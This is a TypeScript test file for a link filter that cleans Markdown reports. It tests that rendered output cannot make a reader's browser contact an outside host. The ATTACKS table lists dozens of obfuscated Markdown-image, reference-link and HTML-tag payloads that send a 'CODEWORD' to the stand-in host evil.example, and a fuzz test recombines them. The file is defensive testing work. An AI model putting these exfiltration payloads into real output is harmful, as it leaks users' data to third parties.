import { expect, test } from 'bun:test';
import { parseHTML } from 'linkedom';
import { marked } from 'marked';
import { LinkFilter } from '../../src/research/link-filter.ts';
import { createCitable } from '../../src/research/sources.ts';

const allowed = createCitable(['https://ok.org/a']);
const LEAK = 'evil.example/collect?leak=CODEWORD';

function filtered(text: string, pieces = 1): string {
  const filter = new LinkFilter(allowed);
  const size = Math.max(1, Math.ceil(text.length / pieces));
  let out = '';
  for (let at = 0; at < text.length; at += size) out += filter.push(text.slice(at, at + size));
  return out + filter.end();
}

/** The hosts a reader's browser would ask when it shows the Markdown; links count too, for people click and bots unfurl. */
function hostsAsked(markdown: string, skip = ''): string[] {
  const html = marked.parse(markdown, { async: false, gfm: true });
  const { document } = parseHTML(`<!doctype html><body>${html}</body>`);
  const hosts: string[] = [];
  for (const element of document.querySelectorAll('*')) {
    if (element.localName === skip) continue;
    for (const name of element.getAttributeNames()) {
      const value = element.getAttribute(name) ?? '';
      const address = URL.parse(value.split(/\s/)[0] ?? '', 'https://reader.example/');
      if (/^(?:alt|title|class)$/.test(name) || !address) continue;
      hosts.push(address.host);
      // A known address that goes on with more than is known tells its host as much.
      if (address.host !== 'reader.example' && value.includes('evil.example')) hosts.push('evil.example');
    }
  }
  return hosts;
}

/** Ways to make a reader's client fetch an address; `https:` in the clear is only the first of them. */
const ATTACKS: Record<string, string> = {
  image: `![x](https://${LEAK})`,
  'image without scheme': `![x](//${LEAK})`,
  'image with backslashes': `![x](\\\\\\\\${LEAK})`,
  'image with an escaped colon': `![x](https\\://${LEAK})`,
  'image with a character reference': `![x](https&#58;//${LEAK})`,
  'image with a named reference': `![x](https&colon;//${LEAK})`,
  'image on two lines': `![x](\nhttps://${LEAK}\n)`,
  'image with an endless label': `![${'x '.repeat(4000)}](//${LEAK})`,
  'image with a long label': `![${'x '.repeat(1500)}](//${LEAK}${'y'.repeat(1500)})`,
  'image with an endless address': `![x](//${LEAK}${'y'.repeat(9000)})`,
  'reference without scheme': `![x][r]\n\n[r]: //${LEAK}\n`,
  'reference with a character reference': `![x][r]\n\n[r]: &#104;ttps://${LEAK}\n`,
  'reference with an escape': `![x][r]\n\n[r]: https\\://${LEAK}\n`,
  'reference with escaped slashes': `![x][r]\n\n[r]: \\/\\/${LEAK}\n`,
  'reference on the next line': `![x][r]\n\n[r]:\n//${LEAK}\n`,
  'reference in angle brackets on the next line': `![x][r]\n\n[r]:\n<//${LEAK}>\n`,
  'reference in a quote': `![x][r]\n\n> [r]: //${LEAK}\n`,
  'reference in a list': `![x][r]\n\n- [r]: //${LEAK}\n`,
  'reference indented': `![x][r]\n\n   [r]: //${LEAK}\n`,
  'reference with a long address': `![x][r]\n\n[r]: //${LEAK}${'y'.repeat(5000)}\n`,
  'tag with a second attribute': `<img src="https://ok.org/a" srcset="https://${LEAK}">`,
  'tag with a decoy attribute': `<img data-src="https://ok.org/a" src="https://${LEAK}">`,
  'tag without scheme': `<img src="//${LEAK}">`,
  'tag with a bracket in an attribute': `<img alt=">" src="//${LEAK}">`,
  'tag with an opening bracket in an attribute': `<img src="//${LEAK}<x">`,
  'tag with a style': `<p style="background:url(//${LEAK})">x</p>`,
  'tag with a ping': `<a href="https://ok.org/a" ping="https://${LEAK}">x</a>`,
  'tag in capitals without quotes': `<IMG SRC=//${LEAK}>`,
  'tag that does not end': `<table background=//${LEAK} \n\nx>y`,
  'fence that is none': `\`\`\`x\`\n![x](https://${LEAK})\n`,
  'fence closed by an indented one': `\`\`\`\ncode\n  \`\`\`\n![x](https://${LEAK})\n`,
  'fence in a quote': `> \`\`\`\n![x](https://${LEAK})\n\`\`\``,
  'fence in tildes': `~~~\n\`\`\`\n~~~\n![x](//${LEAK})\n`,
  'code span over two list items': `- a \` b\n- ![x](//${LEAK}) \` c`,
  'code span over table cells': `| a | b |\n|---|---|\n| \` | ![x](//${LEAK}) \` |`,
  'code span with an escaped tick': `\\\` ![x](//${LEAK}) \``,
  'code span over a heading': `# h \`\n![x](//${LEAK})\n# h \``,
};

test('the attacks work without the filter', () => {
  const harmless = Object.entries(ATTACKS).filter(([, text]) => !hostsAsked(text).includes('evil.example'));
  // Kept for other readers than this one.
  expect(harmless.map(([name]) => name)).toEqual(['image with backslashes', 'tag in capitals without quotes']);
});

test.each(Object.entries(ATTACKS))('no reader is made to ask the attacker by: %s', (_, text) => {
  for (const pieces of [1, 3, 40, text.length])
    expect([pieces, hostsAsked(filtered(text, pieces))]).toEqual([
      pieces,
      expect.not.arrayContaining(['evil.example']),
    ]);
});

test('no mixture of the parts of such attacks makes a reader fetch', () => {
  const markup =
    '![§[§]§](§)§]: §[r]§[r]: §![x][r]§\n§\n\n§> §- §    §`§``§```§~~~§<img src=§<a href="§>§"§\'§=§<§<!-- § -->§\\§|§&#58;§&colon;§&#x2f;§ §x';
  const addresses = `//${LEAK}§https://${LEAK}§https:${LEAK}§\\\\${LEAK}§https://ok.org/a§<//${LEAK}>§https\\://${LEAK}`;
  const parts = `${markup}§${addresses}`.split('§');
  let seed = 20_261;
  const next = (below: number) => {
    seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((seed / 2 ** 32) * below);
  };
  for (let round = 0; round < 4000; round++) {
    const text = Array.from({ length: 3 + next(12) }, () => parts[next(parts.length)]).join('');
    const out = filtered(text, 1 + next(4));
    // In code bare addresses stay, and readers differ in what they take for code: those may become links, but no more.
    const rendered = hostsAsked(out, 'a');
    if (rendered.includes('evil.example')) expect({ text, out, rendered }).toBe('harmless' as never);
  }
});

test('what a report needs stays as it is', () => {
  const report = [
    '# Title',
    'See [the page](https://ok.org/a "title") and `arr[0](x)`, `a[i]: b`, `List<String>`, `if (a < b && c > d)`.',
    '```ts\nconst x: Record<string, T> = { [key]: calls[0](1) };\nfetch("http://localhost:8000/api");\n```',
    '> [note]: a remark, not a definition',
    '| a | b |\n|---|---|\n| 1 | <br> |',
    '![](https://ok.org/a)',
    '<details open><summary>more</summary>text</details>',
  ].join('\n\n');
  expect(filtered(report)).toBe(report);
});
